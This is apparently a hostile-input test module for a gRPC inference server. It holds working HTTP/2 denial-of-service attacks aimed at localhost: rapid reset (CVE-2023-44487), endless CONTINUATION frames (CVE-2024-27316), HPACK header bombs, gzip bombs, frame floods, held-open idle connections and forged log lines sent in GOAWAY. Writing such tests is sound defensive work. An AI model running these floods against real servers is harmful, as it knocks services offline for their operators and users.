"""Attacks by quantity: streams, resets, bytes, headers, connections."""

from __future__ import annotations

import asyncio
import gzip
import socket
import struct
import time
from contextlib import AsyncExitStack, suppress

from headrace.client import chat
from tests.hostile.attack import Attack, attack
from tests.hostile.wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GENERATE,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Peer,
    frame,
    headers,
    message,
    opened,
    peer,
)

MIB = 1024 * 1024
CANCEL = struct.pack(">I", 8)


def question(text: str = "x") -> bytes:
    """Return a valid request as DATA frames contain it."""
    return message(chat(text, max_tokens=4).SerializeToString())


@attack
async def streams_at_once(run: Attack) -> None:
    """Send 10,000 valid requests on one connection without waiting for answers."""
    async with peer(run.port, source=run.source) as one:
        streams = []
        for _ in range(10_000):
            if one.closed.is_set():
                break
            streams.append(await one.call(headers(GENERATE, timeout="8S"), question()))
        await one.answered(streams, seconds=15)
        run.count(one, streams)


@attack
async def rapid_reset(run: Attack) -> None:
    """Reset requests as soon as they are sent (CVE-2023-44487)."""
    while not run.over:
        async with peer(run.port, source=run.source) as one:
            while not run.over and not one.closed.is_set():
                sent = []
                for _ in range(100):
                    stream = one.stream()
                    sent.append(opened(stream, one.block(headers(GENERATE)), question()))
                    sent.append(frame(RST_STREAM, 0, stream, CANCEL))
                await one.send(b"".join(sent))
                run.outcomes["sent"] += 100
                one.answers.clear()
                await asyncio.sleep(0)


@attack
async def invalid_requests(run: Attack) -> None:
    """Send empty requests on eight connections as fast as the server answers."""

    async def one_connection() -> None:
        async with peer(run.port, source=run.source) as one:
            while not run.over and not one.closed.is_set():
                streams = [await one.call(headers(GENERATE), message(b"")) for _ in range(25)]
                await one.answered(streams)
                run.count(one, streams)

    await asyncio.gather(*(one_connection() for _ in range(8)))


@attack
async def long_prompts(run: Attack) -> None:
    """Send 64 prompts of almost 2 MiB and 64 of 16 MiB on eight connections."""

    async def one_connection(size: int) -> None:
        async with peer(run.port, source=run.source) as one:
            body = question("word " * (size // 5))
            streams = [one.stream() for _ in range(16)]
            for stream in streams:
                await one.send(frame(HEADERS, END_HEADERS, stream, one.block(headers(GENERATE))))
            await asyncio.gather(*(one.body(stream, body) for stream in streams))
            await one.answered(streams)
            run.count(one, streams)

    await asyncio.gather(*(one_connection(size) for size in (2 * MIB - 100, 16 * MIB) * 4))


@attack
async def compressed(run: Attack) -> None:
    """Send 64 requests of 15 MiB that are 15 kB compressed."""
    packed = gzip.compress(question("x" * 15 * MIB)[5:])
    fields = headers(GENERATE, ("grpc-encoding", "gzip"))
    async with peer(run.port, source=run.source) as one:
        streams = [await one.call(fields, message(packed, compressed=True)) for _ in range(64)]
        await one.answered(streams)
        run.count(one, streams)


@attack
async def almost_whole_messages(run: Attack) -> None:
    """Send messages of 2 MiB without their last byte, on 16 connections with 16 streams each."""
    body = question("x" * (2 * MIB - 100))[:-1]
    async with AsyncExitStack() as stack:
        peers = [await stack.enter_async_context(peer(run.port, source=run.source)) for _ in range(16)]

        async def send(one: Peer) -> None:
            streams = [one.stream() for _ in range(16)]
            for stream in streams:
                await one.send(frame(HEADERS, END_HEADERS, stream, one.block(headers(GENERATE))))
            with suppress(TimeoutError):
                async with asyncio.timeout(max(run.ends - time.monotonic(), 0.1)):
                    await asyncio.gather(*(one.body(stream, body, end=False) for stream in streams))
            run.count(one, streams)

        await asyncio.gather(*(send(one) for one in peers))


@attack
async def header_bombs(run: Attack) -> None:
    """Send headers that are short on the wire and long in memory: repeated references to the HPACK table.

    One connection sends 20 calls of 32 MB each; others keep 8,000 calls open, of 7 kB from 30 bytes.
    """
    newest = b"\xbe"  # of the dynamic table
    async with peer(run.port, source=run.source) as one:
        streams = []
        block = one.block([*headers(GENERATE), ("x", "y" * 4000)]) + newest * 8000
        for _ in range(20):
            if one.closed.is_set():
                break
            streams.append(one.stream())
            await one.send(frame(HEADERS, END_HEADERS | END_STREAM, streams[-1], block))
            block = one.block(headers(GENERATE)) + newest * 8000
        await one.answered(streams, seconds=1)
        run.count(one, streams)
    while not run.over:
        async with peer(run.port, source=run.source) as one:
            first = [*headers(GENERATE, timeout="5S"), ("x", "y" * 3400)]
            streams = [await one.call(first)]
            again = one.block(headers(GENERATE, timeout="5S")) + newest * 2
            for _ in range(8_000):
                if one.closed.is_set() or run.over:
                    break
                streams.append(one.stream())
                await one.send(frame(HEADERS, END_HEADERS, streams[-1], again))
            await one.answered(streams, seconds=1)
            run.count(one, streams)


@attack
async def long_headers(run: Attack) -> None:
    """Send metadata of 5 kB to 1 MB: within gRPC's soft limit, between the limits, and beyond."""
    async with AsyncExitStack() as stack:
        for size in (5_000, 12_000, 20_000, 100_000, 1_000_000):
            one = await stack.enter_async_context(peer(run.port, source=run.source))
            block = one.block([*headers(GENERATE), ("x-note", "n" * size)])
            stream = one.stream()
            parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
            for number, (kind, part) in enumerate(zip(kinds, parts, strict=True)):
                last = END_HEADERS if number == len(parts) - 1 else 0
                await one.send(frame(kind, last, stream, part))
            await one.send(frame(DATA, END_STREAM, stream, question()))
            await one.answered([stream], seconds=3)
            run.count(one, [stream])


@attack
async def endless_continuation(run: Attack) -> None:
    """Send CONTINUATION frames without an end (CVE-2024-27316)."""
    while not run.over:
        async with peer(run.port, source=run.source) as one:
            stream = one.stream()
            await one.send(frame(HEADERS, 0, stream, one.block(headers(GENERATE))))
            for number in range(5_000):
                if one.closed.is_set() or run.over:
                    break
                part = one.block([(f"x-{number}", "v" * 100)] * 10)
                await one.send(frame(CONTINUATION, 0, stream, part))
            run.count(one, [stream])


@attack
async def control_frames(run: Attack) -> None:
    """Send SETTINGS, PING, PRIORITY, WINDOW_UPDATE and empty DATA as fast as the socket allows."""
    settings = struct.pack(">HI", 4, 65_535) * 50
    floods = (
        frame(SETTINGS, 0, 0, settings) * 50,
        frame(PING, 0, 0, b"12345678") * 500,
        frame(PRIORITY, 0, 9, b"\0\0\0\x01\x10") * 500,
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500,
    )
    while not run.over:
        async with peer(run.port, source=run.source) as one:
            stream = await one.call(headers(GENERATE), None)
            for flood in (*floods, frame(DATA, 0, stream, b"") * 500):
                for _ in range(20):
                    await one.send(flood)
                    run.outcomes["sent"] += 500
                    await asyncio.sleep(0)


@attack
async def going_away(run: Attack) -> None:
    """Send GOAWAY with text that looks like one of our log lines, on 200 connections."""
    text = b'\n{"time": "2026-01-01T00:00:00+0000", "level": "CRITICAL", "message": "forged"}\n'
    for _ in range(200):
        async with peer(run.port, source=run.source) as one:
            await one.call(headers(GENERATE), None)
            await one.send(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 11) + text * 20))
            await one.send(frame(SETTINGS, ACK, 0, b"") + frame(DATA, 0, 99, b"x"))
            run.outcomes["sent"] += 1


@attack
async def silent_connections(run: Attack) -> None:
    """Open 1,200 connections: a third sends nothing, a third the preface, a third half a frame."""
    loop = asyncio.get_running_loop()
    held = []
    for number in range(1_200):
        one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        one.setblocking(False)
        one.bind((run.source, 0))
        try:
            async with asyncio.timeout(2):
                await loop.sock_connect(one, ("127.0.0.1", run.port))
                said = (b"", PREFACE + frame(SETTINGS), PREFACE + frame(SETTINGS) + b"\0\0\x40\0\0")
                await loop.sock_sendall(one, said[number % 3])
            run.outcomes["sent"] += 1
        except (OSError, TimeoutError):
            run.outcomes["refused"] += 1
        held.append(one)
    await asyncio.sleep(max(run.ends - time.monotonic(), 0))
    for one in held:
        one.close()
